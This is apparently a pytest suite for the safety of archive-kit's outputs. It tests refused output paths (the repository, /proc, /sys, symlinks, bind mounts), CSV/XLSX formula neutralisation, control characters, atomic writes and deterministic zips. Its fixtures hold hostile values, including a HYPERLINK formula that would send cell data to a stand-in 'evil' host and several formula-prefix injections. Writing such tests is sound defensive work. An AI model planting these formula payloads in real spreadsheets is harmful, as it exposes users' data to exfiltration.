"""What archive-kit writes as output is safe (issue 9: defects 1, 5, 8, 10, 11 and the output
paths of 12): no output path can damage the repository or a system file, spreadsheets carry
text and never formulas, control characters and ``%`` in titles give working files and bags,
``--zip`` is deterministic, and a failed write leaves nothing half-written.

Everything runs the real CLI in a subprocess on a real repository holding real PDFs and a photo.
"""
from __future__ import annotations

import csv
import datetime as dt
import hashlib
import os
import re
import resource
import shutil
import signal
import subprocess
import sys
import zipfile
from pathlib import Path

import bagit
import pytest

from archive_kit.archive import Archive
from archive_kit.errors import UsageError
from archive_kit.safenames import safe_name
from bench.gen_docs import NOTICE_BODY, make_pdf
from bench.gen_scans import make_photo
from tests.conftest import assert_bundle_whole, run_cli

UNIT = "=1+2\x0b测试单位"  # a unit name a careless user typed: formula start and a control character
TITLES = {
    "control": "标题\x0b有控制符",
    "percent": "满意度95%调查",
    "formula": '=HYPERLINK("http://evil/?"&A1,"点")',
    "photo": "现场\x01照片",
}
REMARKS = "@SUM(1+1)"
AUTHOR = "-2+3"
DOC_NUMBER = "\t+渝工发〔2023〕35号"
BUNDLE = ("bundle", "--track", "文明单位", "--year", "2023")
HOSTILE_SCHEMA = """\
id: hostile-track
name: "=危险类别"
code: WX
criteria:
  - code: "1"
    name: '=HYPERLINK("http://evil/","点")'
  - code: "2"
    name: "@SUM(A1:A9)"
  - code: "3"
    name: "+1+1"
"""


# --------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A numbered repository whose titles, remarks, author, document number and unit name are hostile.

    The issue's manifest is used; the catalogue values are then set exactly (whatever ingest
    normalises), since a stored value must never break an output either.
    """
    base = tmp_path_factory.mktemp("safety")
    root = base / "archive"
    run_cli("init", "--fonds", "J001", "--unit", UNIT, root=root, check=True)
    src = base / "src"
    src.mkdir()
    for name in ("a", "b", "c"):
        make_pdf(src / f"{name}.pdf", f"关于开展志愿服务活动的通知{name}", NOTICE_BODY)
    (src / "清单.csv").write_text(
        "path,title,remarks,author,doc_number\n"
        f'a.pdf,"{TITLES["control"]}",,,\n'
        f'b.pdf,{TITLES["percent"]},,,\n'
        'c.pdf,"=HYPERLINK(""http://evil/?""&A1,""点"")",@SUM(1+1),-2+3,"\t+渝工发〔2023〕35号"\n',
        encoding="utf-8")
    run_cli("ingest", "--manifest", str(src / "清单.csv"), "--track", "文明单位", "--criterion", "2.3",
            "--year", "2023", "--no-ocr", root=root, check=True)
    photo = make_photo(src / f"{TITLES['photo']}.jpg", exif_date=dt.datetime(2023, 7, 1, 9, 30))
    run_cli("ingest", str(photo), "--track", "文明单位", "--criterion", "2.3", "--year", "2023", "--no-ocr",
            root=root, check=True)
    (src / "hostile.yaml").write_text(HOSTILE_SCHEMA, encoding="utf-8")
    run_cli("schema", "add", str(src / "hostile.yaml"), root=root, check=True)
    with Archive.open(root) as archive:
        by_name = {d.original_name: d.id for d in archive.documents()}
        assert len(by_name) == 4, by_name
        values = {"a.pdf": {"title": TITLES["control"]}, "b.pdf": {"title": TITLES["percent"]},
                  "c.pdf": {"title": TITLES["formula"], "remarks": REMARKS, "author": AUTHOR,
                            "doc_number": DOC_NUMBER}}
        with archive.catalogue.transaction():
            for name, doc_id in by_name.items():
                archive.catalogue.update_document(doc_id, values.get(name, {"title": TITLES["photo"]}))
    run_cli("number", root=root, check=True)
    shutil.rmtree(src)
    return root


class Site:
    """A test's folder: a copy of the repository, a canary folder and room for outputs."""

    def __init__(self, base: Path, pristine: Path) -> None:
        self.base = base
        self.root = base / "archive"
        shutil.copytree(pristine, self.root, symlinks=True)
        self.canary = base / "canary"
        self.canary.mkdir()
        (self.canary / "私人文件.txt").write_text("不能被改写\n", encoding="utf-8")
        (self.canary / "sub").mkdir()
        (self.canary / "sub" / "b.bin").write_bytes(os.urandom(256))

    def cli(self, *args: str) -> subprocess.CompletedProcess:
        return run_cli(*args, root=self.root)

    def an_object(self) -> Path:
        return next(p for p in sorted((self.root / "objects").rglob("*")) if p.is_file())


@pytest.fixture
def site(pristine: Path, tmp_path: Path) -> Site:
    return Site(tmp_path, pristine)


def snapshot(top: Path) -> dict[str, str]:
    """Every entry under ``top``: file -> sha256, folder -> 'dir', symlink -> its target."""
    out: dict[str, str] = {}
    for dirpath, dirnames, filenames in os.walk(top):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            rel = p.relative_to(top).as_posix()
            if p.is_symlink():
                out[rel] = "-> " + os.readlink(p)
            elif p.is_dir():
                out[rel] = "dir"
            else:
                out[rel] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def one_line_error(proc: subprocess.CompletedProcess) -> str:
    """Exit 2 and exactly one line on stderr, no traceback."""
    lines = [ln for ln in proc.stderr.splitlines() if ln.strip()]
    assert proc.returncode == 2, (proc.returncode, proc.stderr)
    assert "Traceback" not in proc.stderr and len(lines) == 1, proc.stderr
    assert lines[0].startswith("archive-kit: error:"), lines[0]
    return lines[0]


# --------------------------------------------------------------------------- defect 1 and 12: output paths

REFUSED = {
    "bundle onto the repository": [*BUNDLE, "--out", "{root}", "--force"],
    "bundle onto the object store": [*BUNDLE, "--out", "{root}/objects", "--force"],
    "bundle inside the object store": [*BUNDLE, "--out", "{root}/objects/zz"],
    "bundle inside the repository, zipped": [*BUNDLE, "--out", "{root}/derived/b", "--zip"],
    "bundle above the repository": [*BUNDLE, "--out", "{base}", "--force"],
    "bundle through a symlink into the repository": [*BUNDLE, "--out", "{base}/link/zz"],
    "listing onto the catalogue": ["listing", "--format", "csv", "--out", "{root}/catalogue.sqlite"],
    "listing onto an original": ["listing", "--format", "xlsx", "--out", "{object}"],
    "listing via a symlink onto the catalogue": ["listing", "--format", "csv", "--out", "{base}/evil.csv"],
    "box listing into the index": ["listing", "--level", "box", "--format", "pdf", "--out", "{root}/index/b.pdf"],
    "spine labels onto the config": ["listing", "--level", "spine", "--format", "docx", "--out", "{root}/config.json"],
    "remarks onto the repository folder": ["listing", "--level", "remarks", "--format", "pdf", "--out", "{root}"],
    "listing onto a folder": ["listing", "--format", "csv", "--out", "{canary}"],
    "coverage onto the config": ["coverage", "--track", "文明单位", "--year", "2023", "--format", "csv",
                                 "--out", "{root}/config.json"],
    "bundle onto /": [*BUNDLE, "--out", "/"],
    "listing onto /proc/version": ["listing", "--format", "csv", "--out", "/proc/version"],
    "listing onto /dev/null": ["listing", "--format", "csv", "--out", "/dev/null"],
    "listing into /sys": ["listing", "--format", "csv", "--out", "/sys/archive-kit.csv"],
    "bundle into /proc": [*BUNDLE, "--out", "/proc/archive-kit"],
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_refused_output_paths_write_nothing_and_keep_the_repository(site: Site, case: str) -> None:
    (site.base / "link").symlink_to(site.root / "objects")
    (site.base / "evil.csv").symlink_to(site.root / "catalogue.sqlite")
    args = [a.format(root=site.root, base=site.base, canary=site.canary, object=site.an_object())
            for a in REFUSED[case]]
    before, top_before = snapshot(site.base), sorted(os.listdir("/"))
    line = one_line_error(site.cli(*args))
    assert snapshot(site.base) == before, f"{case}: something was written or removed"
    assert sorted(os.listdir("/")) == top_before
    out = args[args.index("--out") + 1]
    assert out in line or os.path.realpath(out) in line, line
    verify = site.cli("verify")
    assert verify.returncode == 0 and "OK" in verify.stdout, verify.stdout + verify.stderr


def _can_bind_mount() -> bool:
    if shutil.which("unshare") is None:
        return False
    return subprocess.run(["unshare", "-m", "sh", "-c", "mount --bind / /mnt"], capture_output=True).returncode == 0


@pytest.mark.skipif(not _can_bind_mount(), reason="needs unshare -m and bind mounts")
def test_a_bind_mount_of_the_repository_is_still_the_repository(site: Site) -> None:
    """Another name for the same folder (a bind mount, in a private mount namespace that vanishes
    with the process) is recognised by device and inode, not only by path."""
    alias = site.base / "alias"
    alias.mkdir()
    before = snapshot(site.root)
    script = 'mount --bind "$1" "$2" && exec "$3" -m archive_kit --root "$1" listing --format csv --out "$2/catalogue.sqlite"'
    proc = subprocess.run(["unshare", "-m", "sh", "-c", script, "sh", str(site.root), str(alias), sys.executable],
                          capture_output=True, text=True, timeout=300)
    assert "inside the repository" in one_line_error(proc)
    assert snapshot(site.root) == before and not any(alias.iterdir())


def test_outputs_never_go_into_another_repository_or_through_a_hard_link(site: Site, pristine: Path) -> None:
    """Last year's repository is protected too; a hard link to an original outside the repository
    is replaced by the listing (a new file), never written through."""
    other = site.base / "archive2022"
    shutil.copytree(pristine, other)
    before = snapshot(other)
    assert "archive2022" in one_line_error(site.cli("listing", "--format", "csv", "--out", str(other / "config.json")))
    one_line_error(site.cli(*BUNDLE, "--out", str(other / "objects" / "zz")))
    assert snapshot(other) == before
    original = site.an_object()
    link = site.base / "目录.xlsx"
    os.link(original, link)
    digest = hashlib.sha256(original.read_bytes()).hexdigest()
    assert site.cli("listing", "--format", "xlsx", "--out", str(link)).returncode == 0
    assert hashlib.sha256(original.read_bytes()).hexdigest() == digest and original.stat().st_nlink == 1
    assert zipfile.is_zipfile(link)
    assert site.cli("verify").returncode == 0


def test_library_calls_get_the_same_checks(site: Site) -> None:
    before = snapshot(site.base)
    with Archive.open(site.root) as archive:
        with pytest.raises(UsageError, match="inside the repository"):
            archive.listing(site.root / "catalogue.sqlite", fmt="csv")
        with pytest.raises(UsageError):
            archive.bundle(site.root, track="文明单位", year=2023, force=True)
        with pytest.raises(UsageError):
            archive.bundle(site.base, track="文明单位", year=2023, force=True)
        with pytest.raises(UsageError):
            archive.coverage("文明单位", 2023).write(site.root / "config.json", "xlsx")
        with pytest.raises(UsageError, match="system"):
            archive.listing("/proc/version", fmt="csv")
    assert snapshot(site.base) == before


def test_force_never_replaces_a_folder_archive_kit_did_not_make(site: Site) -> None:
    before = snapshot(site.canary)
    line = one_line_error(site.cli(*BUNDLE, "--out", str(site.canary), "--force"))
    assert "not a bundle" in line
    assert snapshot(site.canary) == before
    # a bag made by another tool is not ours either
    other = site.base / "other-bag"
    (other / "data").mkdir(parents=True)
    (other / "data" / "x.txt").write_text("x", encoding="utf-8")
    bagit.make_bag(str(other))
    before = snapshot(other)
    one_line_error(site.cli(*BUNDLE, "--out", str(other), "--force"))
    assert snapshot(other) == before


def test_force_replaces_a_previous_bundle_but_not_files_added_to_it(site: Site) -> None:
    out = site.base / "迎检资料"
    assert site.cli(*BUNDLE, "--out", str(out), "--zip").returncode == 0
    first = snapshot(out)
    one_line_error(site.cli(*BUNDLE, "--out", str(out), "--zip"))  # without --force: refused
    (out / "bundle.pdf").write_bytes(b"damaged")
    proc = site.cli(*BUNDLE, "--out", str(out), "--zip", "--force")
    assert proc.returncode == 0, proc.stderr
    assert snapshot(out) == first
    assert_bundle_whole(site.root, out, metadata_checks=("title",))  # its titles were set by hand, off the page
    # a file the bundle did not write makes the folder no longer only ours: refused, file kept
    (out / "我的笔记.txt").write_text("检查组意见", encoding="utf-8")
    line = one_line_error(site.cli(*BUNDLE, "--out", str(out), "--force"))
    assert "我的笔记.txt" in line
    assert (out / "我的笔记.txt").read_text(encoding="utf-8") == "检查组意见"
    # a zip that is not a bundle's is not replaced either
    (out / "我的笔记.txt").unlink()
    other_zip = site.base / "迎检资料.zip"
    other_zip.write_bytes(b"PK\x05\x06" + b"\0" * 18)
    one_line_error(site.cli(*BUNDLE, "--out", str(out), "--zip", "--force"))
    assert other_zip.read_bytes() == b"PK\x05\x06" + b"\0" * 18


FILE_LIMIT = 34_000  # above SQLite's 32 KiB shared-memory file, below a DOCX listing (python-docx's template alone is ~36 KB)


def _limit_file_size() -> None:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (FILE_LIMIT, FILE_LIMIT))


def test_a_failed_write_leaves_the_previous_file_whole_and_no_temp(site: Site) -> None:
    """A write that fails half-way (here: the file size limit, as a full disk would) keeps the old file."""
    out = site.base / "归档文件目录.docx"
    out.write_bytes(b"previous listing")
    proc = subprocess.run([sys.executable, "-m", "archive_kit", "--root", str(site.root), "listing",
                           "--format", "docx", "--out", str(out)], capture_output=True, text=True, timeout=300,
                          preexec_fn=_limit_file_size)
    assert proc.returncode != 0 and "Traceback" not in proc.stderr, proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1 and str(out) in proc.stderr, proc.stderr
    assert out.read_bytes() == b"previous listing"
    assert sorted(p.name for p in site.base.iterdir()) == sorted(["archive", "canary", out.name])
    proc = site.cli("listing", "--format", "docx", "--out", str(out))
    assert proc.returncode == 0 and out.stat().st_size > FILE_LIMIT, proc.stderr


# --------------------------------------------------------------------------- defect 5: formula injection

FORMULA_CELLS = {TITLES["formula"], REMARKS, AUTHOR, DOC_NUMBER}
RISKY = ("=", "+", "-", "@", "\t", "\r")


def assert_xlsx_text_only(path: Path, expected: set[str]) -> None:
    """No formula anywhere in the package, and every expected cell reads back as a string."""
    import openpyxl

    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, f"{path.name}:{name} holds a formula"
    found = set()
    for ws in openpyxl.load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(RISKY):
                    assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
                    assert cell.quotePrefix, (cell.coordinate, cell.value)  # Excel keeps it text when edited
                    found.add(cell.value)
    assert expected <= found, expected - found


def assert_csv_prefixed(path: Path, expected: set[str]) -> None:
    """Every cell that would start a formula carries a leading apostrophe."""
    with open(path, encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c.startswith(RISKY)], [c for c in cells if c.startswith(RISKY)]
    assert {"'" + e for e in expected} <= set(cells), {"'" + e for e in expected} - set(cells)


def test_listing_and_coverage_spreadsheets_carry_text_not_formulas(site: Site) -> None:
    for level, expected in (("item", FORMULA_CELLS), ("box", set())):
        xlsx, csv_path = site.base / f"{level}.xlsx", site.base / f"{level}.csv"
        assert site.cli("listing", "--level", level, "--format", "xlsx", "--out", str(xlsx)).returncode == 0
        assert site.cli("listing", "--level", level, "--format", "csv", "--out", str(csv_path)).returncode == 0
        assert_xlsx_text_only(xlsx, expected)
        assert_csv_prefixed(csv_path, expected)
    import openpyxl

    subtitle = openpyxl.load_workbook(site.base / "item.xlsx").worksheets[0]["A2"].value
    assert "全宗名称：=1+2测试单位" in subtitle and "\x0b" not in subtitle
    names = {'=HYPERLINK("http://evil/","点")', "@SUM(A1:A9)", "+1+1"}
    for fmt in ("xlsx", "csv"):
        out = site.base / f"coverage.{fmt}"
        proc = site.cli("coverage", "--track", "hostile-track", "--year", "2023", "--format", fmt, "--out", str(out))
        assert proc.returncode == 0, proc.stderr
        (assert_xlsx_text_only if fmt == "xlsx" else assert_csv_prefixed)(out, names)


def test_bundle_contents_spreadsheet_carries_text_not_formulas(site: Site) -> None:
    out = site.base / "b"
    assert site.cli(*BUNDLE, "--out", str(out)).returncode == 0
    title_row = "=1+2测试单位 文明单位 2023年度 迎检资料目录"
    assert_xlsx_text_only(out / "目录.xlsx", {TITLES["formula"], DOC_NUMBER, title_row})


# --------------------------------------------------------------------------- defect 10: control characters


def _docx_text(path: Path) -> str:
    import docx

    d = docx.Document(str(path))
    parts = [p.text for p in d.paragraphs]
    parts += [c.text for t in d.tables for r in t.rows for c in r.cells]
    return "\n".join(parts)


def test_control_characters_give_a_working_bundle_and_contents(site: Site) -> None:
    out = site.base / "b"
    proc = site.cli(*BUNDLE, "--out", str(out))
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
    text = _docx_text(out / "目录.docx")
    assert "标题有控制符" in text and "现场照片" in text
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", text)
    import openpyxl

    values = [c.value for row in openpyxl.load_workbook(out / "目录.xlsx").worksheets[0].iter_rows() for c in row]
    assert "标题有控制符" in values and "[现场照片]" in values  # titled by its file name: in [ ]
    from pypdf import PdfReader

    reader = PdfReader(out / "bundle.pdf")
    assert "标题有控制符" in "".join(reader.pages[i].extract_text() for i in range(3))
    info = (out / "bag-info.txt").read_text(encoding="utf-8")
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", info)
    assert_bundle_whole(site.root, out, metadata_checks=("title",))  # its titles were set by hand, off the page


@pytest.mark.parametrize("level,fmt", [("item", f) for f in ("csv", "xlsx", "docx", "pdf")]
                         + [("box", f) for f in ("csv", "xlsx", "docx", "pdf")]
                         + [(lv, f) for lv in ("spine", "remarks") for f in ("docx", "pdf")])
def test_every_listing_is_written_with_hostile_text(site: Site, level: str, fmt: str) -> None:
    out = site.base / f"{level}.{fmt}"
    repository, canary = snapshot(site.root), snapshot(site.canary)
    proc = site.cli("listing", "--level", level, "--format", fmt, "--out", str(out))
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
    # only the output was written: no temp file beside it, nothing in the repository or elsewhere
    assert sorted(os.listdir(site.base)) == sorted(["archive", "canary", out.name])
    assert snapshot(site.root) == repository and snapshot(site.canary) == canary
    if fmt == "docx":
        text = _docx_text(out)
    elif fmt == "pdf":
        from pypdf import PdfReader

        text = "".join(p.extract_text() for p in PdfReader(out).pages)
    elif fmt == "xlsx":
        import openpyxl

        text = "\n".join(str(c.value) for ws in openpyxl.load_workbook(out).worksheets
                         for row in ws.iter_rows() for c in row if c.value is not None)
    else:
        text = out.read_text(encoding="utf-8-sig")
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", text), repr(text[:200])
    if level == "item":
        assert "标题有控制符" in text.replace("\n", "")
    if level in ("item", "box", "remarks"):
        assert "测试单位" in text.replace("\n", "")


# --------------------------------------------------------------------------- defect 8: % in a title


def test_percent_in_a_title_gives_a_bag_both_validators_accept(site: Site) -> None:
    out = site.base / "b"
    assert site.cli(*BUNDLE, "--out", str(out)).returncode == 0
    names = [p.name for p in (out / "data" / "originals").iterdir()]
    assert any("满意度95％调查" in n for n in names), names
    assert not any("%" in n for n in names)
    bagit.Bag(str(out)).validate()
    assert_bundle_whole(site.root, out, metadata_checks=("title",))  # its titles were set by hand, off the page


def test_safe_names_never_hold_percent_signs() -> None:
    assert safe_name("满意度95%调查", "pdf") == "满意度95％调查.pdf"
    assert "%" not in safe_name("%0A%25%0D", "pdf")


# --------------------------------------------------------------------------- defect 11: --zip


def test_zip_top_folder_is_the_bundle_name_and_two_builds_are_identical(site: Site) -> None:
    zips = []
    for where in ("one", "two"):
        out = site.base / where / "迎检资料2023"
        proc = site.cli(*BUNDLE, "--out", str(out), "--zip")
        assert proc.returncode == 0, proc.stderr
        zips.append(out.with_name(out.name + ".zip"))
    with zipfile.ZipFile(zips[0]) as z:
        names = z.namelist()
        assert z.testzip() is None
    assert names and all(n.startswith("迎检资料2023/") for n in names), names[:5]
    assert "迎检资料2023/bagit.txt" in names and "迎检资料2023/data/originals.json" in names
    assert not any(".tmp-" in n for n in names)
    assert zips[0].read_bytes() == zips[1].read_bytes()
    assert sorted(os.listdir(site.base)) == ["archive", "canary", "one", "two"]
    assert sorted(os.listdir(site.base / "one")) == ["迎检资料2023", "迎检资料2023.zip"]
    # the zip unpacks to a valid bag
    unpacked = site.base / "unpacked"
    with zipfile.ZipFile(zips[0]) as z:
        z.extractall(unpacked)
    bagit.Bag(str(unpacked / "迎检资料2023")).validate()
